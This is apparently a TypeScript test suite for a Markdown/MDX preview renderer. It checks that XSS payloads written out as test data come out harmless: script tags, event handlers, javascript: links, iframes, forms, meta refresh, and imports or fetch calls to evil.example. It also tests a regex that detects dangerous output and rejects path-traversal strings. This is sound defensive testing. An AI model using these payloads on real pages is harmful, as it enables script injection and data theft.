import assert from 'node:assert/strict'
import { test } from 'node:test'
import { preparePage } from './page.ts'
import { locateImage, toDataAddress } from './images.ts'

const render = (path: string, text: string, images: ReadonlyMap<string, string> = new Map()) =>
  preparePage(path, text).finish(images)

const hostile: readonly (readonly [name: string, text: string])[] = [
  ['a script', 'a <script>alert(1)</script> b'],
  ['a script as a component', '<Script>{`alert(1)`}</Script>\n\n<script>{`alert(1)`}</script>'],
  ['a handler', '<img src="x" onerror="alert(1)" />'],
  ['a handler that is an expression', '<div onClick={() => alert(1)} style={{ color: "red" }}>x</div>'],
  ['a link', '[x](javascript:alert(1)) <a href="javascript:alert(1)">y</a> <https://evil.example>'],
  ['a link by reference', '[x][y]\n\n[y]: javascript:alert(1)'],
  ['a frame', '<iframe src="https://evil.example" srcDoc="<script>alert(1)</script>" />'],
  ['a style', '<style>{"* { display: none }"}</style>\n\n<p style="position: fixed">x</p>'],
  ['a form', '<form action="https://evil.example"><input name="a" /><button>Send</button></form>'],
  ['a drawing', '<svg onload="alert(1)"><script>alert(1)</script></svg>\n\n<math><mtext>x</mtext></math>'],
  [
    'elements of the head',
    '<meta httpEquiv="refresh" content="0;url=https://evil.example" />\n\n<base href="https://evil.example" />',
  ],
  [
    'a foreign image',
    '![x](https://evil.example/?q=1) ![y](//evil.example/y.png) <img srcSet="https://evil.example/z 2x" />',
  ],
  ['an image by data that is no image', '![x](data:text/html,<script>alert(1)</script>)'],
  [
    'an import and an export',
    "import x from 'https://evil.example/x.js'\n\nexport const y = fetch('https://evil.example')",
  ],
  ['an identifier of the page around it', '<div id="root" name="root">x</div>'],
  [
    'a quote in an attribute',
    '<Card title={\'"><script>alert(1)</script>\'} />\n\n<Card title="a&quot;><script>alert(1)</script>" />',
  ],
]

const dangerous =
  /<(?:script|iframe|style|svg|math|form|input|button|meta|base|object|embed|link|a)\b|<[^>]*\s(?:on\w+|style|href|id|name|srcset|action)=|<img[^>]*src="(?!data:image\/)/i

for (const [name, text] of hostile)
  for (const path of ['page.mdx', 'page.md'])
    test(`${name} in ${path} has no effect`, () => {
      assert.doesNotMatch(render(path, text), dangerous)
    })

test('a component is a box with its name, in a sentence it stays in the sentence', () => {
  const html = render('a.mdx', '<Card title="Start">\n  Text\n</Card>\n\n<Note />\n\nA <Badge>new</Badge> word.\n')
  const note = '<div class="component"><div class="component-name">Note</div></div>'
  const card = '<div class="component"><div class="component-name">Card · Start</div><p>Text</p></div>'
  const word = '<p>A <span class="component"><span class="component-name">Badge</span>new</span> word.</p>'
  assert.deepEqual(html.split('\n'), [card, note, word])
})

test('expressions are code, comments and statements are left out', () => {
  const html = render('a.mdx', "import a from 'a'\n\nOne {two} {' '}{/* three */}\n\n{four}\n")
  assert.deepEqual(html.split('\n'), [
    '<p>One <code class="expression">{two}</code>  </p>',
    '<pre><code class="expression">{four}</code></pre>',
  ])
})

test('tasks, tables, links and the front matter are readable without controls', () => {
  const html = render('a.md', '---\ntitle: A & B\n---\n\n- [x] done\n\n[more](./b.md)\n\n| a |\n| -: |\n| 1 |\n')
  assert.match(html, /<pre><code class="front-matter">title: A &#x26; B<\/code><\/pre>/)
  assert.match(html, /<span class="task">☑ <\/span> done/)
  assert.match(html, /<span class="link" title="\.\/b\.md">more<\/span>/)
  assert.match(html, /<td align="right">1<\/td>/)
})

test('an image of the repository is part of the preview, any other is named', () => {
  const text = '![Logo](/img/logo.png) ![gone](gone.png)\n'
  const page = preparePage('docs/guides/a.md', text)
  assert.deepEqual(
    page.images.map(({ source, paths }) => [source, paths]),
    [
      [
        '/img/logo.png',
        [
          'docs/guides/img/logo.png',
          'docs/img/logo.png',
          'img/logo.png',
          ...['docs/guides/static', 'docs/guides/public', 'docs/static', 'docs/public', 'static', 'public'].map(
            (folder) => `${folder}/img/logo.png`,
          ),
        ],
      ],
      ['gone.png', ['docs/guides/gone.png']],
    ],
  )
  const html = page.finish(new Map([['/img/logo.png', 'data:image/png;base64,AA==']]))
  assert.match(html, /<img src="data:image\/png;base64,AA==" alt="Logo">/)
  assert.match(html, /<span class="missing">Image: gone \(gone\.png\)<\/span>/)
})

test('the path of an image stays in the repository', () => {
  for (const source of [
    '../../x.png',
    '%2e%2e/%2e%2e/x.png',
    'https://a/b.png',
    '//a/b.png',
    '\\\\a\\b.png',
    '%E0%A4',
    '',
  ])
    assert.equal(locateImage('docs/a.md', source), undefined, source)
  assert.deepEqual(locateImage('docs/a.md', '../x.png?v=1#y')?.paths, ['x.png'])
})

test('an image is told by its bytes', () => {
  assert.match(toDataAddress(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')) ?? '', /^data:image\/png;/)
  assert.match(toDataAddress(Buffer.from('<?xml version="1.0"?>\n<svg xmlns="x"/>')) ?? '', /^data:image\/svg\+xml;/)
  assert.equal(toDataAddress(Buffer.from('<html><svg></svg></html>')), undefined)
})

test('a page that is too large is shown as its text, escaped', () => {
  const html = render('a.mdx', '<script>alert(1)</script>\n'.repeat(12_000))
  assert.match(html, /^<p class="missing">This page cannot be shown/)
  assert.ok(html.length < 300_000)
  assert.doesNotMatch(html, /<script/)
})
